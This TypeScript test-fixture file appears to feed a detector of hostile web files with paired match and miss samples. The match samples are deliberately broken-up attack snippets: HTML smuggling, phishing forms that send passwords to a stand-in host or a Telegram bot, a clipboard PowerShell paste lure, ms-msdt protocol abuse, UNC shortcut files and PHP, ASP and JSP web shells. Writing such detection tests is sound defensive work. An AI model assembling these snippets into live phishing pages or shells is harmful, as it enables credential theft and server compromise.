import { lnk, page, t, type RuleCases } from './case';

const zip64 = `UEsDB${'BQAAAAIA'.repeat(30)}`;
const save = (name: string, data: string, click: string): string =>
  page(
    t(
      `var b=at~ob('${data}');var x=new Bl~ob([b]);var a=document.createElement('a');a.href=URL.createObject~URL(x);a.download='${name}';${click}`,
    ),
  );
const svg = (body: string): string => `<svg xmlns="http://www.w3.org/2000/svg">${body}</svg>`;
const encoded = 'PGh0bWw'.repeat(60);

/** Pages, pictures with script, shortcuts. */
export const web: RuleCases = {
  Html_Smuggling: {
    match: ['a.html', save('bill.iso', zip64, 'a.cli~ck()')],
    miss: ['a.html', save('bill.iso', zip64, 'document.body.append(a)')],
    alsoMiss: [['app.html', save('chart.png', 'iVBORw0KGgo', 'a.cli~ck()')]],
  },
  Html_Builds_Download: {
    match: ['a.html', save('', zip64, 'a.cli~ck()')],
    miss: ['plot.html', save('', zip64, 'a.cli~ck();/* plotly.js v2 */')],
  },
  Svg_With_Script_Redirect: {
    match: ['a.svg', svg('<script>window.location.href="https://x.example"</script>')],
    miss: ['a.svg', svg('<a href="https://example.com"><text>x</text></a>')],
  },
  Svg_With_Hidden_Script: {
    match: ['a.svg', svg(t('<script>ev~al(at~ob("QUJD"))</script>'))],
    miss: ['a.svg', svg('<script>document.getElementById("a").classList.toggle("b")</script>')],
  },
  Html_Password_Form_Posts_Elsewhere: {
    match: ['a.html', '<form action="https://x.example/p"><input type="password"></form>'],
    miss: ['a.html', '<form action="https://example.com/search"><input type="text"></form>'],
  },
  Phish_Sends_Password_To_Collector: {
    match: ['a.html', page(t('fetch("https://api.tele~gram.org/bo~t1:x/sendMessage")'), '<input type="password">')],
    miss: ['a.html', page('fetch("/api/contact")', '<input type="password"><a href="https://t.me/example">chat</a>')],
    alsoMiss: [['b.html', '<form action="https://formspree.io/f/x"><input type="email"></form>']],
  },
  Phish_Imitates_Sign_In: {
    match: ['a.html', page(t('$.po~st("https://x.example/go.p~hp")'), 'Office 365 <input type="password">')],
    miss: [
      'a.html',
      page('', 'Office 365 <form action="https://login.example.com/common/login"><input type="password"></form>'),
    ],
  },
  Phish_Leads_On_With_Decoded_Address: {
    match: ['a.html', page(t("window.location.href = at~ob('aHR0cHM6Ly94LmV4YW1wbGU=')"))],
    miss: ['a.html', page("window.location.href = '/start'; const picture = atob(data)")],
  },
  Phish_Page_Written_From_Code: {
    match: ['a.html', page(t(`document.wr~ite(at~ob("${encoded}"))`))],
    miss: ['a.html', page(`document.write(unescape("%3Cscript src='" + host + "ga.js'%3E%3C/script%3E"))`)],
    more: [['a.html', page(t(`ev~al(unes~cape("${'%61'.repeat(1200)}"))`))]],
  },
  Page_Makes_Reader_Paste_Command: {
    match: [
      'a.html',
      page(t('navigator.clip~board.writeText("power~shell -w h -c x")'), 'Press Win + R, then Ctrl + V, then Enter'),
    ],
    miss: [
      'a.html',
      page('navigator.clipboard.writeText("curl https://example.com")', 'Copy the command with Ctrl + C'),
    ],
  },
  Page_Opens_Tool_By_Protocol: {
    match: ['a.html', page(t('location.href = "ms-ms~dt:/id PCWDiag~nostic /skip force /param x"'))],
    miss: ['a.html', page('', t('<p>The address ms-ms~dt:/id PCWDiag~nostic was abused in 2022.</p>'))],
    more: [['a.html', t('<iframe src="search-m~s:query=x&crumb=location:\\\\198.51.100.7\\share"></iframe>')]],
  },
  Page_Drops_Program: {
    match: [
      'a.html',
      t(
        `<script language=VBScript>x = "4D~5A90000300000004000000"\nSet f = CreateObj~ect("Scripting.FileSystem~Object")</script>`,
      ),
    ],
    miss: ['a.html', '<script language=VBScript>document.title = "x"</script>'],
  },
  Help_File_Runs_Program: {
    match: [
      'a.html',
      t(
        '<object classid="clsid:adb880a6-d8ff-11cf-93~77-00aa003b7a11"><param name="Command" value="Short~Cut"><param name="Item1" value=",cmd.e~xe,/c x"></object>',
      ),
    ],
    miss: [
      'a.html',
      '<object classid="clsid:adb880a6-d8ff-11cf-9377-00aa003b7a11"><param name="Command" value="Related Topics"></object>',
    ],
  },
  Shortcut_Starts_Command: {
    match: ['a.lnk', lnk('C:\\Windows\\System32\\cmd.exe /c start')],
    miss: ['a.lnk', lnk('C:\\Users\\a\\Documents\\report.docx')],
  },
  Internet_Shortcut_To_Program: {
    match: ['a.url', '[InternetShortcut]\r\nURL=file://198.51.100.7/share/a.exe\r\n'],
    miss: ['a.url', '[InternetShortcut]\r\nURL=https://example.com/\r\n'],
  },
  Shell_Item_Runs_Command: {
    match: [
      'a.settingcontent-ms',
      t('<PCSettings><DeepLink>%windir%\\system32\\cm~d.exe /c x</DeepLink></PCSettings>'),
    ],
    miss: ['a.settingcontent-ms', '<PCSettings><DeepLink>ms-settings:display</DeepLink></PCSettings>'],
    more: [
      ['a.library-ms', '<libraryDescription><url>\\\\198.51.100.7\\share</url></libraryDescription>'],
      ['a.scf', '[Shell]\r\nCommand=2\r\nIconFile=\\\\198.51.100.7\\share\\a.ico\r\n'],
    ],
  },
  Php_Shell_Runs_Request: {
    match: ['a.php', t('<?php @ev~al($_PO~ST["x"]);')],
    miss: ['a.php', '<?php echo htmlspecialchars($_POST["x"]); exec("date");'],
    alsoMiss: [['blog.md', t('A shell looks like `<?php ev~al($_PO~ST["x"]);`')]],
  },
  Php_Shell_Packed: {
    match: ['a.php', t('<?php ev~al(gzinf~late(base64_dec~ode("QUJD")));')],
    miss: ['a.php', '<?php $data = gzinflate(base64_decode($row["data"]));'],
  },
  Asp_Shell_Runs_Request: {
    match: ['a.aspx', t('<%@ Page Language="Jscript"%><%ev~al(Requ~est.Item["x"],"unsafe");%>')],
    miss: ['a.aspx', '<%@ Page Language="C#"%><%# Eval("Name") %><%= Request.Url %>'],
    more: [['a.jsp', t('<% Runtime.getRun~time().exec(request.getPara~meter("x")); %>')]],
  },
  Picture_Contains_Server_Script: {
    match: ['a.gif', t('GIF89a<?php sys~tem($_GE~T["x"]);')],
    miss: ['a.gif', 'GIF89a<?xpacket begin?> made with php'],
  },
};
